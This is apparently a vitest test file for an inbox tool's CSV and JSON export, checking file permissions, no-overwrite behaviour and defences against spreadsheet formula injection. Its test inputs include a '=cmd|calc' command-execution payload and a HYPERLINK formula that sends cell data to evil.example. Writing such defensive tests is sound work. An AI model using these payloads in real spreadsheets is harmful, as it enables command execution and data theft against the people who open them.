import { readFileSync, statSync } from 'node:fs'
import { join } from 'node:path'
import fc from 'fast-check'
import { expect, test } from 'vitest'
import { makeInbox, messageOf } from '../../../tests/support/inbox.ts'

const hostile = { name: '=cmd|calc', message: '-2+3, "quoted"; and\nanother line\t\x1b[2J\u202e' }

test('writes CSV that a spreadsheet reads, JSON to the letter, no trapped message unless it is asked for, and over no file', async () => {
  await using inbox = await makeInbox()
  const head = '\ufeffid,receivedAt,state,name,email,message,language,attempts,possibleCopies,dueAt,reason,deliveredAt'
  expect(await inbox.ask('export')).toBe(`${head}\r\n`)
  const id = await inbox.keep(hostile)
  const cell = `"'-2+3, ""quoted""; and\nanother line\\t\\u001b[2J\\u202e"`
  const row = `${id},2026-03-01T11:59:00.000Z,waiting,'=cmd|calc,marie@example.org,${cell},fr,0,0,2026-03-01T11:59:00.000Z,,`
  expect(await inbox.ask('export')).toBe(`${head}\r\n${row}\r\n`)
  expect(await inbox.ask('export', '--separator', 'semicolon')).toContain(`;${cell};fr;`)
  await inbox.keep({ name: 'trapped', website: 'https://spam.example' })
  const file = join(inbox.folder, 'messages.json')
  expect(await inbox.askJson('export', '--output', file)).toEqual({ exported: 1, file })
  expect(statSync(file).mode & 0o777).toBe(0o600)
  expect(messageOf(await inbox.run(['export', '--state', 'trapped', '--output', file]))).toMatch(/^EEXIST/)
  const json = readFileSync(file, 'utf8')
  expect(json).toContain('\\u202e')
  expect(JSON.parse(json)).toMatchObject([hostile])
  expect(JSON.parse(await inbox.ask('export', '--state', 'trapped', '--json'))).toMatchObject([{ name: 'trapped' }])
})

const piece = fc.constantFrom(
  ...['=1+2', '+34 600', '-', '@SUM(A1)', '＝1', '=', ';', ',', '\t', '\n', '\r', '"', "'", ' ', '\u00a0', 'a', 'Hola'],
  '=HYPERLINK("http://evil.example/?"&A1;"Ver pedido");',
)
const nasty = fc.array(piece, { minLength: 1, maxLength: 12 }).map((pieces) => pieces.join(''))

test('contains no formula, whichever separator and quotes a spreadsheet uses', async () => {
  await using inbox = await makeInbox()
  for (const [name, message, reason] of fc.sample(fc.tuple(nasty, nasty, nasty), 20)) {
    await inbox.keep({ name, email: `${name}@example.org`, message })
    await inbox.settle({ kind: 'refused', reason })
  }
  for (const chosen of ['comma', 'semicolon']) {
    const csv = await inbox.ask('export', '--separator', chosen)
    for (const separator of [',', ';', '\t', /[,;\t]/])
      for (const cell of csv.split(/\r?\n/).flatMap((line) => line.split(separator)))
        expect(cell).not.toMatch(/^["\s]*[=+\-@＝＋－＠]/)
  }
})
